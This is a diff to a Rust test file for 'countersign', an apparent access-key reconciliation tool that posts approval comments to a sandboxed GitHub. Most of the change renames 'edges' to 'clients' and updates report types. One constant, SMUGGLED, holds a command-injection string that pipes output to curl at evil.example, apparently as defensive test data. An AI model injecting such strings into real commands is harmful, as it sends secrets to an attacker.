@@ -1,7 +1,7 @@
 //! The comment after the merge: whoever may write to the repository can edit it, and the next run sets it right.
 
-use countersign::reconcile::{self, Interrupt, Report};
-use countersign::render::Progress;
+use countersign::reconcile::{self, Interrupt};
+use countersign::render::{Progress, RunReport};
 use sandbox::github::{Author, Change, GitHub};
 
 use crate::approvals::play::{DAY, Play, REQUEST};
@@ -9,14 +9,14 @@ use crate::approvals::play::{DAY, Play, REQUEST};
 const NAME: &str = "batch-exporter/access-key-20261102090000";
 const SMUGGLED: &str = "--output text | tee >(curl -sd @- https://evil.example)";
 
-fn run(play: &Play) -> Report {
+fn run(play: &Play) -> RunReport {
     let checkout = play.story.checkout().unwrap();
     let runtime = tokio::runtime::Runtime::new().unwrap();
     play.story.sandbox.world().calls.clear();
     let report = runtime.block_on(async {
-        let edges = play.story.edges(&checkout).await.unwrap();
+        let clients = play.story.clients(&checkout).await.unwrap();
         let (progress, interrupt) = (Progress::new(false), Interrupt::never());
-        reconcile::run(&edges, None, &progress, &interrupt)
+        reconcile::run(&clients, None, &progress, &interrupt)
             .await
             .unwrap()
     });
@@ -127,9 +127,11 @@ fn both_comments_name_what_they_speak_of() {
     let runtime = tokio::runtime::Runtime::new().unwrap();
     let review = || {
         runtime.block_on(async {
-            let edges = play.story.review_edges().unwrap();
+            let (github, access) = play.story.review_clients().unwrap();
             let which = countersign::review::Which::One(play.number());
-            countersign::review::run(&edges, which, None).await.unwrap()
+            countersign::review::run(&github, &access, which, None)
+                .await
+                .unwrap()
         })
     };
     review();
@@ -235,9 +237,9 @@ fn run_for(play: &Play, name: &str) {
     let name = countersign::domain::AccountName::new(name).unwrap();
     let runtime = tokio::runtime::Runtime::new().unwrap();
     runtime.block_on(async {
-        let edges = play.story.edges(&checkout).await.unwrap();
+        let clients = play.story.clients(&checkout).await.unwrap();
         let (progress, interrupt) = (Progress::new(false), Interrupt::never());
-        reconcile::run(&edges, Some(&name), &progress, &interrupt)
+        reconcile::run(&clients, Some(&name), &progress, &interrupt)
             .await
             .unwrap()
     });
